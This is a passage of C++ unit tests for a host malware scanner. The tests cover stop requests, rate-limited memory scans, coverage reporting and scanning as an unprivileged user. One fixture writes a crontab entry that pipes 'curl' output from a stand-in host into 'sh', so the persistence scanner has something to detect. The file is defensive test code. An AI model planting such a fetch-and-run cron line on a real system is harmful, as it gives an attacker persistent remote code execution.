    if (fs::read_symlink("/proc/" + std::to_string(pid) + "/exe", ec) !=
        fs::read_symlink("/proc/self/exe", ec))
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  return pid;
}

void Reap(pid_t pid) {
  kill(pid, SIGKILL);
  waitpid(pid, nullptr, 0);
}

double SecondsSince(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

TEST(Stop, SleepUnlessStoppedWakesOnRequest) {
  std::stop_source src;
  auto t0 = std::chrono::steady_clock::now();
  std::thread t([&] {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    src.request_stop();
  });
  EXPECT_FALSE(SleepUnlessStopped(std::chrono::seconds(30), src.get_token()));
  t.join();
  EXPECT_LT(SecondsSince(t0), 5.0);
  EXPECT_TRUE(SleepUnlessStopped(std::chrono::milliseconds(1), std::stop_token{}));
}

TEST(Stop, RateLimitedMemoryScanEndsWithinAChunkOfTheRequest) {
  pid_t child = SpawnShellMiner();
  ASSERT_GT(child, 0);
  MemScanOptions o;
  o.read_rate_bytes_per_sec = 64 << 10;  // libc alone would take half a minute
  o.hash_exec_pages = false;
  MemoryScanner scanner(nullptr, o);
  std::stop_source src;
  scanner.BeginPass(src.get_token());
  std::thread stopper([&] {
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    src.request_stop();
  });
  auto t0 = std::chrono::steady_clock::now();
  ProcessMemResult r = scanner.ScanProcess(child, "/", "/bin/sh");
  double took = SecondsSince(t0);
  stopper.join();
  Reap(child);
  EXPECT_TRUE(r.interrupted);
  EXPECT_GT(r.stats.bytes_read, 0u);
  EXPECT_LT(took, 3.0);
}

class CollectingSink final : public FindingSink {
 public:
  Status Write(std::span<const Finding> f) override {
    std::lock_guard lock(mu);
    for (const auto& x : f) got.push_back(x);
    return Ok();
  }
  Status Flush() override { return Ok(); }
  size_t count(std::string_view category) {
    std::lock_guard lock(mu);
    return size_t(std::count_if(got.begin(), got.end(),
                                [&](const Finding& f) { return f.category == category; }));
  }
  std::mutex mu;
  std::vector<Finding> got;
};

TEST(Stop, MonitorStopsAPassInItsRateLimiterAndKeepsWhatItFound) {
  pid_t child = SpawnShellMiner();
  ASSERT_GT(child, 0);
  HostMonitorOptions o;
  o.scan.pids = {child};
  o.scan.cpu_sample_ms = 0;
  o.scan.scan_persistence = false;
  o.scan.memory.read_rate_bytes_per_sec = 64 << 10;
  o.low_priority = false;
  CollectingSink sink;
  HostMonitor monitor(o, &sink);
  ASSERT_TRUE(monitor.Start());
  // The inventory finding arrives before the memory phase, which is then known to be running.
  for (int i = 0; i < 500 && sink.count(category::kMinerProcess) == 0; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  ASSERT_EQ(sink.count(category::kMinerProcess), 1u);
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  ASSERT_TRUE(monitor.stats().pass_running);
  auto t0 = std::chrono::steady_clock::now();
  monitor.Stop();
  double took = SecondsSince(t0);
  Reap(child);
  EXPECT_LT(took, 3.0);
  HostMonitorStats st = monitor.stats();
  EXPECT_EQ(st.passes, 1u);
  EXPECT_EQ(st.passes_incomplete, 1u);
  EXPECT_FALSE(st.pass_running);
  EXPECT_TRUE(st.last_report.coverage.interrupted);
  auto why = IncompleteReasons(st.last_report);
  ASSERT_FALSE(why.empty());
  EXPECT_EQ(why[0], "stopped before the end of the pass");
  EXPECT_EQ(ReportJson(st.last_report)["complete"], false);
}

TEST(Coverage, ReasonsFollowFromTheCounts) {
  HostScanReport r;
  EXPECT_TRUE(IncompleteReasons(r).empty());
  EXPECT_EQ(ReportJson(r)["complete"], true);
  r.processes_vanished = 3;  // exited mid-scan: not a blind spot
  r.memory.regions_over_budget = 9;
  EXPECT_TRUE(IncompleteReasons(r).empty());
  r.coverage.processes_memory_denied = 2;
  r.coverage.unreadable_paths = {"/var/spool/cron/crontabs: Permission denied"};
  auto why = IncompleteReasons(r);
  ASSERT_EQ(why.size(), 2u);
  EXPECT_EQ(why[0], "2 processes: memory not readable (needs root or CAP_SYS_PTRACE)");
  EXPECT_EQ(why[1], "autostart not checked: /var/spool/cron/crontabs: Permission denied");
  nlohmann::json j = ReportJson(r);
  EXPECT_EQ(j["complete"], false);
  EXPECT_EQ(j["memory"]["processes_denied"], 2);
  EXPECT_EQ(j["unreadable_paths"][0], "/var/spool/cron/crontabs: Permission denied");
}

// Runs "body" in a child as nobody (65534) and returns its exit status; the body reports which
// check failed by its exit code.
int AsNobody(const std::function<int()>& body) {
  pid_t pid = fork();
  if (pid == 0) {
    if (setgroups(0, nullptr) != 0 || setgid(65534) != 0 || setuid(65534) != 0) _exit(100);
    _exit(body());
  }
  int status = 0;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 200;
}

TEST(Coverage, UnprivilegedScanNamesWhatItCouldNotRead) {
  if (geteuid() != 0) GTEST_SKIP() << "needs root: starts a process and a folder nobody may read";
  fs::path root = TempDir("blind");
  fs::permissions(root, fs::perms(0755));
  WriteFile(root / "etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n");
  WriteFile(root / "var/spool/cron/crontabs/root", "* * * * * curl -s http://x.example/a | sh\n");
  for (const char* d : {"etc", "var", "var/spool", "var/spool/cron"})
    fs::permissions(root / d, fs::perms(0755));
  fs::permissions(root / "var/spool/cron/crontabs", fs::perms(0700));
  pid_t target = SpawnShellMiner();
  ASSERT_GT(target, 0);

  int code = AsNobody([&] {
    MemoryScanner ms(nullptr, MemScanOptions{});
    ProcessMemResult mem = ms.ScanProcess(target, "/", "/bin/sh");
    if (!mem.denied || mem.stats.bytes_read != 0) return 1;
    ProcReader reader(ReadOptions{});
    auto p = reader.Read(target);
    if (!p || !p->access_denied) return 2;
    PersistenceCoverage pc;
    auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, nullptr, &pc);
    if (!hits.empty()) return 3;  // the miner's crontab is exactly what it could not see
    if (pc.unreadable != std::vector<std::string>{"/var/spool/cron/crontabs: Permission denied"})
      return 4;
    HostScanOptions o;
    o.pids = {target};
    o.cpu_sample_ms = 0;
    o.scan_persistence = false;
    HostAgent agent(o, nullptr, {});
    HostScanReport rep = agent.RunPass();
    if (rep.coverage.processes_memory_denied != 1 || rep.coverage.denied.empty()) return 5;
    if (rep.coverage.denied[0].find("pid " + std::to_string(target)) != 0) return 6;
    if (IncompleteReasons(rep).empty()) return 7;
    return 0;
  });
  EXPECT_EQ(code, 0) << "check " << code << " failed as nobody";

  // As root the same scan reads everything and finds the crontab.
  MemoryScanner ms(nullptr, MemScanOptions{});
  ProcessMemResult mem = ms.ScanProcess(target, "/", "/bin/sh");
  EXPECT_FALSE(mem.denied);
  EXPECT_GT(mem.stats.bytes_read, 0u);
  PersistenceCoverage pc;
  auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, nullptr, &pc);
  EXPECT_EQ(hits.size(), 1u);
  EXPECT_TRUE(pc.unreadable.empty());
  Reap(target);
  fs::remove_all(root);
}

}  // namespace
}  // namespace mw::hostscan
